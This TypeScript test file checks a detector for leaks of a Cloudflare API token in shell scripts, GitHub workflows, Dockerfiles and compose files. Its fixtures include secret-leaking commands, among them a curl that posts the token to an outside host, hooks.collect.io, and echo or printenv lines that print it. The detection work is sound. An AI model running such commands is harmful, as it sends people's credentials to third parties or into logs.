import { describe, expect, it } from 'vitest';
import { exposures } from '../../../src/facts/exposure/exposures.js';
import { readDockerfile } from '../../../src/languages/dockerfile.js';
import type { SourceFile } from '../../../src/source/model.js';
import { data } from '../../models/data.js';
import { shell } from '../../models/program.js';

function told(file: SourceFile): readonly string[] {
  return exposures(file).map(
    ({ at, how, variable, by, revealed }) =>
      `${how} ${variable} ${by}${revealed === Infinity ? '' : ` ${String(revealed)}`} | ${file.text.slice(at.start, at.end)}`,
  );
}

const T = '$CF_API_TOKEN';
const log = `log CF_API_TOKEN echo | ${T}`;

const table: readonly (readonly [script: string, ...expected: readonly string[]])[] = [
  // what prints
  [`echo ${T}`, log],
  [`echo "token: ${T}"`, log],
  [`printf 'token: %s\\n' "${T}"`, `log CF_API_TOKEN printf | ${T}`],
  [`logger -t deploy "${T}"`, `log CF_API_TOKEN logger | ${T}`],
  ['printenv CF_API_TOKEN', 'log CF_API_TOKEN printenv | CF_API_TOKEN'],
  [`cat <<EOF\ntoken: ${T}\nEOF`, `log CF_API_TOKEN cat | ${T}`],
  [`cat <<< "${T}"`, `log CF_API_TOKEN cat | ${T}`],
  [`echo "${T}" | base64`, `log CF_API_TOKEN base64 | ${T}`],
  [`echo ${T} | base64`, `log CF_API_TOKEN base64 | ${T}`],
  [`printf %s ${T} | rev`, `log CF_API_TOKEN rev | ${T}`],
  [`echo ${T} | base64 | base64 -w0`, `log CF_API_TOKEN base64 | ${T}`],
  [`echo ${T} | base64 > /dev/null`],
  [`echo "${T}" | tee log.txt`, `log CF_API_TOKEN tee | ${T}`],
  [`echo "${T}" >&2`, log],
  [`echo "${T}" > /dev/stderr`, log],
  [`TOKEN=${T}\necho "$TOKEN"`, 'log CF_API_TOKEN echo | "$TOKEN"'],
  ['echo "${CF_API_TOKEN:-none}"', 'log CF_API_TOKEN echo | ${CF_API_TOKEN:-none}'],
  ['curl -H "Authorization: Bearer $TOKEN" https://api.cloudflare.com/client/v4/zones; echo "$TOKEN"', 'log TOKEN echo | $TOKEN'],
  [
    'read -rs TOKEN; curl -H "Authorization: Bearer $TOKEN" https://api.cloudflare.com/client/v4/zones; echo "$TOKEN"',
    'log TOKEN echo | $TOKEN',
  ],
  // parameters are those of the function, or of the place where others are shifted to
  ['curl -H "Authorization: Bearer $2" https://api.cloudflare.com/client/v4/zones; echo "$2"', 'log $2 echo | $2'],
  ['curl -H "Authorization: Bearer $2" https://api.cloudflare.com/client/v4/zones; say() { echo "$2"; }'],
  ['send() { curl -H "Authorization: Bearer $2" https://api.cloudflare.com/client/v4/zones; }; say() { echo "$2"; }'],
  [
    'while [ $# -gt 0 ]; do case $1 in --token) TOKEN="$2"; shift 2;; --zone) ZONE="$2"; shift 2;; esac; done; curl -H "Authorization: Bearer $TOKEN" https://api.cloudflare.com/client/v4/zones; echo "$ZONE" "$1"',
  ],
  [
    'while getopts k:z: o; do case $o in k) KEY=$OPTARG;; z) ZONE=$OPTARG;; esac; done; curl -H "X-Auth-Email: $E" -H "X-Auth-Key: $KEY" "https://api.cloudflare.com/client/v4/zones?name=$ZONE"; echo "$ZONE"',
  ],
  [`printf -v HEADER 'Authorization: Bearer %s' "${T}"; echo "$HEADER"`, 'log CF_API_TOKEN echo | "$HEADER"'],
  ['printenv HOME CF_API_TOKEN > token.txt', 'file CF_API_TOKEN printenv | CF_API_TOKEN'],
  [`echo "${T}" 2> errors.txt`, log],
  [`echo '%.4s' "${T}"`, log],
  // through functions
  [`print() { curl -H "Authorization: Bearer $1" https://api.cloudflare.com/client/v4/zones; }\nprint "${T}"`],
  [`log() { echo "[deploy] $*"; }\nlog "token ${T}"`, `log CF_API_TOKEN echo | $*`],
  [`token() { echo "${T}"; }\ncurl -H "Authorization: Bearer $(token)" https://api.cloudflare.com/client/v4/zones`],
  [`token() { echo "${T}"; }`],
  [`token() { echo "${T}"; }\ntoken`, log],
  [`token() { echo "${T}"; }\nmain() { token; }\nmain`, log],
  [`token() { echo "${T}"; }\nmain() { token; }\nTOKEN=$(main)`],
  ['use() { curl -H "Authorization: Bearer $1" https://api.cloudflare.com/client/v4/zones; }\nsay() { echo "$1"; }\nsay hello'],
  // what is not seen by anybody
  [`TOKEN=$(echo "${T}" | tr -d '\\n')`],
  [`echo "${T}" | npx wrangler secret put CF_API_TOKEN`],
  [`echo "${T}" | docker login --username x --password-stdin registry.example`],
  [`echo "${T}" | while read -r line; do use "$line"; done`],
  [`{ echo "${T}"; } | use`],
  [`if true; then echo "${T}"; fi | use`],
  [`echo "${T}" | sha256sum`],
  [`echo "${T}" > /dev/null`],
  [`printf -v HEADER 'Authorization: Bearer %s' "${T}"`],
  [`[ -n "${T}" ] && echo "CF_API_TOKEN is set"`],
  ['echo "${#CF_API_TOKEN} characters"; echo "${CF_API_TOKEN:+set}"; echo "${CF_API_TOKEN//?/*}"'],
  [': "${CF_API_TOKEN:?is not set}"'],
  ['echo \'export CF_API_TOKEN=$CF_API_TOKEN\'; echo "\\$CF_API_TOKEN"'],
  ['echo "$CF_ACCOUNT_ID $CF_API_EMAIL"'],
  [`cat "${T}"; echo ok <<< "${T}"; printf`],
  ['TOKEN=$(printenv CF_API_TOKEN); printenv CF_API_TOKEN | sha256sum; printenv CF_ACCOUNT_ID'],
  // what is cut
  ['echo "${CF_API_TOKEN:0:4}…"', 'log CF_API_TOKEN echo 4 | ${CF_API_TOKEN:0:4}'],
  ['echo "…${CF_API_TOKEN: -4}"', 'log CF_API_TOKEN echo 4 | ${CF_API_TOKEN: -4}'],
  ['echo "${CF_API_TOKEN:(-6)}"', 'log CF_API_TOKEN echo 6 | ${CF_API_TOKEN:(-6)}'],
  ['echo "${CF_API_TOKEN:4}"', 'log CF_API_TOKEN echo | ${CF_API_TOKEN:4}'],
  [`printf '%.4s…\\n' "${T}"`, `log CF_API_TOKEN printf 4 | ${T}`],
  // files, and what a workflow hands on
  [`echo "TOKEN=${T}" > .env`, `file CF_API_TOKEN echo | ${T}`],
  [`cat > .env <<EOF\nTOKEN=${T}\nEOF`, `file CF_API_TOKEN cat | ${T}`],
  [`echo "${T}" | sudo tee /etc/token > /dev/null`, `file CF_API_TOKEN tee | ${T}`],
  [`echo "${T}" > "$FILE"; printf %s "${T}" >> "$HOME/token"`, `file CF_API_TOKEN echo | ${T}`, `file CF_API_TOKEN printf | ${T}`],
  [`echo "${T}" | tee token.txt > copy.txt`, `file CF_API_TOKEN tee | ${T}`],
  [`echo "${T}" | tee token.txt > /dev/tty`, `log CF_API_TOKEN tee | ${T}`],
  [`{ echo "a"; echo "TOKEN=${T}"; } >> "$GITHUB_ENV"`, `output CF_API_TOKEN echo | ${T}`],
  [`echo "token=${T}" >> $GITHUB_OUTPUT`, `output CF_API_TOKEN echo | ${T}`],
  [`echo "::set-output name=token::${T}"`, `output CF_API_TOKEN echo | ${T}`],
  [`echo "::add-mask::${T}"`],
  [
    `echo "##vso[task.setvariable variable=T;issecret=true]${T}"; echo "##vso[task.setvariable variable=T]${T}"`,
    `output CF_API_TOKEN echo | ${T}`,
  ],
  // elsewhere
  [`curl -d "text=${T}" https://hooks.collect.io/x`, `elsewhere CF_API_TOKEN hooks.collect.io | ${T}`],
  [`curl "https://api.cloudflare.com/client/v4/zones?token=${T}"`, `url CF_API_TOKEN api.cloudflare.com | ${T}`],
  [`curl -H "Authorization: Bearer ${T}" https://api.cloudflare.com/client/v4/zones`],
  // what the shell prints itself
  [
    `set -x\ncurl -H "Authorization: Bearer ${T}" https://api.cloudflare.com/client/v4/zones\necho ok`,
    'trace CF_API_TOKEN set -x | set -x',
  ],
  [`set -euxo pipefail\nTOKEN=${T} npx wrangler deploy`, 'trace CF_API_TOKEN set -x | set -euxo pipefail'],
  [`set -o xtrace; export TOKEN="${T}"`, 'trace CF_API_TOKEN set -x | set -o xtrace'],
  [`set -x\ncat "${T}"`, 'trace CF_API_TOKEN set -x | set -x'],
  [`#!/bin/bash -ex\n[ -n "${T}" ]`, 'trace CF_API_TOKEN set -x | #!/bin/bash -ex'],
  [`set -x\nmake\n{ set +x; } 2>/dev/null\nuse "${T}"\nset -x\nmake`],
  [`( set -x; make )\nuse "${T}"`],
  [`[ -n "$TRACE" ] && set -x\nuse "${T}"`],
  [`if [ "$TRACE" ]; then set -x; fi\nuse "${T}"`],
  [`set -x\nnpx wrangler deploy`],
  [`set -x\nuse <<EOF\n${T}\nEOF`],
  [`use "${T}"\nset -x`],
  [`set -eu -o pipefail\nuse "${T}"`],
];

describe('what scripts print', () => {
  it.each(table)('%s', (script, ...expected) => {
    const says = `${script}\n# cloudflare`;
    expect(told(shell(says))).toEqual(expected);
  });
});

describe('steps of a workflow', () => {
  const workflow = (...steps: readonly string[]): readonly string[] =>
    told(
      data(
        `# cloudflare\njobs:\n  a:\n    steps:\n${steps.map((step) => `      - run: |\n          ${step.replaceAll('\n', '\n          ')}\n`).join('')}`,
        'cloudflare-auth/yaml',
        '.github/workflows/a.yml',
      ),
    );

  it('print secrets', () => {
    expect(workflow('echo "${{ secrets.CF_API_TOKEN }}"')).toEqual(['log CF_API_TOKEN echo | ${{ secrets.CF_API_TOKEN }}']);
  });

  it('are shells of their own', () => {
    expect(workflow('set -x\nmake', 'use "$CF_API_TOKEN"')).toEqual([]);
    expect(workflow('set -x\nuse "$CF_API_TOKEN"', 'make')).toEqual(['trace CF_API_TOKEN set -x | set -x']);
  });
});

describe('instructions of a Dockerfile', () => {
  const run = (text: string): readonly string[] => told(readDockerfile(`# cloudflare\n${text}`, 'Dockerfile'));

  it('are shells of their own', () => {
    expect(run('RUN set -x && make\nRUN use "$CF_API_TOKEN"')).toEqual([]);
    expect(run('RUN set -x \\\n  && use "$CF_API_TOKEN"')).toEqual(['trace CF_API_TOKEN set -x | set -x']);
  });

  it('keep the variables that they name', () => {
    expect(run('ARG CF_API_TOKEN')).toEqual(['image CF_API_TOKEN ARG | CF_API_TOKEN']);
    expect(run('ARG NODE=22 CF_API_TOKEN=""')).toEqual(['image CF_API_TOKEN ARG | CF_API_TOKEN']);
    expect(run('ENV CF_API_TOKEN=$TOKEN')).toEqual(['image CF_API_TOKEN ENV | CF_API_TOKEN']);
    expect(run('ENV CF_API_TOKEN ${TOKEN}')).toEqual(['image CF_API_TOKEN ENV | CF_API_TOKEN']);
    expect(run('ARG CF_API_TOKEN=none\nENV CF_API_TOKEN="" CF_ACCOUNT_ID=$ID\nARG CF_ZONE_ID')).toEqual([]);
    expect(run('ARG VITE_CF_API_TOKEN')).toEqual([]);
    expect(run('RUN --mount=type=secret,id=token CF_API_TOKEN=$(cat /run/secrets/token) npx wrangler deploy')).toEqual([]);
  });
});

describe('builds of images', () => {
  it.each([
    ['docker build --build-arg CF_API_TOKEN .', 'CF_API_TOKEN'],
    ['docker buildx build --build-arg "CF_API_TOKEN=$TOKEN" .', 'CF_API_TOKEN'],
    ['podman build --build-arg=CF_API_TOKEN=$TOKEN .', 'CF_API_TOKEN'],
    ['docker build $OPTIONS --build-arg CF_API_TOKEN .', 'CF_API_TOKEN'],
    ['nerdctl build --build-arg CF_API_TOKEN= .', 'CF_API_TOKEN'],
    [
      'make build --build-arg CF_API_TOKEN; docker build --label CF_API_TOKEN --build-arg "CF API TOKEN" --build-arg-file=CF_API_TOKEN .; nerdctl --namespace=CF_API_TOKEN build .',
    ],
    ['docker build --build-arg CF_API_TOKEN=none --secret id=CF_API_TOKEN,env=TOKEN --build-arg CF_ACCOUNT_ID .'],
  ])('%s', (script, ...variables) => {
    expect(told(shell(`${script} # cloudflare`))).toEqual(variables.map((each) => `image ${each} --build-arg | ${each}`));
  });

  const yaml = (text: string, path: string): readonly string[] => told(data(`# cloudflare\n${text}`, 'cloudflare-auth/yaml', path));

  it.each([
    ['args:\n        CF_API_TOKEN: ${TOKEN}', 'CF_API_TOKEN'],
    ['args: { CF_API_TOKEN: , CF_ACCOUNT_ID: $ID, CF_TOKEN: none }', 'CF_API_TOKEN'],
    ['args:\n        - CF_API_TOKEN\n        - CF_TOKEN=${TOKEN}\n        - CF_KEY=none', 'CF_API_TOKEN', 'CF_TOKEN'],
    ['secrets: [CF_API_TOKEN]'],
    ['args: ${BUILD_ARGS}'],
    ['target: { args: { CF_API_TOKEN: "${TOKEN}" } }\n    deploy: { args: [CF_API_TOKEN] }'],
  ])('compose with %s', (build, ...variables) => {
    const found = yaml(`services:\n  a:\n    build:\n      context: .\n      ${build}\n`, 'compose.yaml');
    expect(found).toEqual(variables.map((each) => `image ${each} build.args | ${each}`));
  });

  it('compose with what several services share', () => {
    expect(yaml('x-app:\n  build: { args: { CF_API_TOKEN: "${TOKEN}" } }\n', 'compose.yaml')).toEqual([
      'image CF_API_TOKEN build.args | CF_API_TOKEN',
    ]);
  });

  it('in a workflow', () => {
    const step = (inputs: string, action = 'docker/build-push-action'): readonly string[] =>
      yaml(`jobs:\n  a:\n    steps:\n      - uses: ${action}@v6\n        with:\n          ${inputs}\n`, '.github/workflows/a.yml');
    expect(step('build-args: |\n            A=b\n            CF_API_TOKEN=${{ secrets.CF_API_TOKEN }}')).toEqual([
      'image CF_API_TOKEN build-args | ${{ secrets.CF_API_TOKEN }}',
    ]);
    expect(step('build-args: CF_ACCOUNT_ID=${{ vars.CF_ACCOUNT_ID }}\n          secrets: token=${{ secrets.CF_API_TOKEN }}')).toEqual([]);
    expect(step('build-args: T=${{ secrets.CF_API_TOKEN }}', 'acme/build')).toEqual([]);
    expect(
      yaml('jobs:\n  a:\n    steps:\n      - uses: docker/build-push-action@v6\n        with: ${{ secrets.CF_API_TOKEN }}\n', 'a.yml'),
    ).toEqual([]);
  });
});
